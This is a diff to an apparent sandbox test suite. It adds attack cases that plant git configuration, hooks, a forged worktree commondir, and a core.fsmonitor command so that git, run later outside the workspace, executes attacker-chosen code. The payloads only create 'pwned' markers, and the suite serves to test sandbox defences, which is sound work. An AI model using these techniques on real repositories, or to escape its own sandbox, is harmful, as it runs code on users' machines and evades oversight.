@@ -6,7 +6,7 @@ import shutil
 import subprocess
 
 from attack import attack
-from harness import BUILD, PATIENCE
+from harness import BUILD, PATIENCE, ROOT
 
 PROGRAMS = ["broker", "files", "keeper", "search", "spawner", "web"]
 
@@ -18,9 +18,9 @@ def repository(scene):
     subprocess.run(["chmod", "-R", "a+rwX", scene.workspace], check=True)
 
 
-def git_outside(scene):
+def git_outside(scene, where=None):
     """What the person does afterwards, outside."""
-    subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=scene.workspace, env={**scene.environment, "PATH": "/usr/bin:/bin"},
+    subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=where or scene.workspace, env={**scene.environment, "PATH": "/usr/bin:/bin"},
                    capture_output=True, check=False, stdin=subprocess.DEVNULL)
     return os.path.exists(os.path.join(scene.tmp, "pwned"))
 
@@ -230,3 +230,40 @@ def second_name_that_was_there_before(scene):
     os.link(path, os.path.join(scene.workspace, "other"))
     scene.run("echo evil > other; echo evil >> other; exec 3<other; echo evil > /proc/self/fd/3; truncate -s 1 other")
     return scene.text("home/project/.mcp.json") != "{}"
+
+
+# ---- repositories beside the workspace's own ----
+
+@attack("protected", "repositories in .git")
+def work_tree_elsewhere(scene):
+    """A work tree of the person's outside, whose repository is the workspace's: its commondir says whose hooks and config count."""
+    repository(scene)
+    elsewhere = os.path.join(scene.tmp, "elsewhere")
+    subprocess.run(["git", "-c", "safe.directory=*", "worktree", "add", "-q", elsewhere], cwd=scene.workspace, check=True, capture_output=True)
+    subprocess.run(["chmod", "-R", "a+rwX", scene.tmp], check=True)
+    scene.run("cp -r .git evil; " + EVIL.format(tmp=scene.tmp) + "evil/config; cd .git/worktrees; echo $OLDPWD/evil > elsewhere/commondir || echo ../../../evil > elsewhere/commondir;"
+              "cp -r elsewhere other; rm -f other/commondir; echo ../../../evil > other/commondir; rm -rf elsewhere; mv -T other elsewhere")
+    return git_outside(scene, elsewhere)
+
+
+@attack("protected", "repositories in .git")
+def submodule_of_a_repository(scene):
+    """git looks into submodules whenever it runs in the workspace; their configuration and hooks lie in its .git."""
+    repository(scene)
+    git = ["git", "-c", "protocol.file.allow=always", "-c", "safe.directory=*"]
+    subprocess.run([*git, "submodule", "add", "-q", scene.workspace, "inner"], cwd=scene.workspace, check=True, capture_output=True)
+    subprocess.run(["chmod", "-R", "a+rwX", scene.workspace], check=True)
+    scene.run("cd .git/modules/inner; echo evil > hooks/pre-commit; mv hooks aside; mkdir hooks; echo evil > hooks/pre-commit; "
+              + EVIL.format(tmp=scene.tmp) + "config; mv ../inner ../other; cp -r ../other ../inner; " + EVIL.format(tmp=scene.tmp) + "../inner/config")
+    return "evil" in scene.text("home/project/.git/modules/inner/hooks/pre-commit") or "pwned" in scene.text("home/project/.git/modules/inner/config")
+
+
+@attack("protected", "none")
+def repository_below_a_workspace(scene):
+    """One that a command has made and entered into the index as if it were a submodule: git looks into it from the workspace's root."""
+    repository(scene)
+    scene.run("export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'; git init -q below; cd below; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x; cd ..; git add below; "
+              f"git -C below config core.fsmonitor 'touch {scene.tmp}/pwned'")
+    if ROOT:  # who runs git in what somebody else owns is asked first
+        subprocess.run(["chown", "-R", "0:0", scene.workspace], check=True)
+    return git_outside(scene)
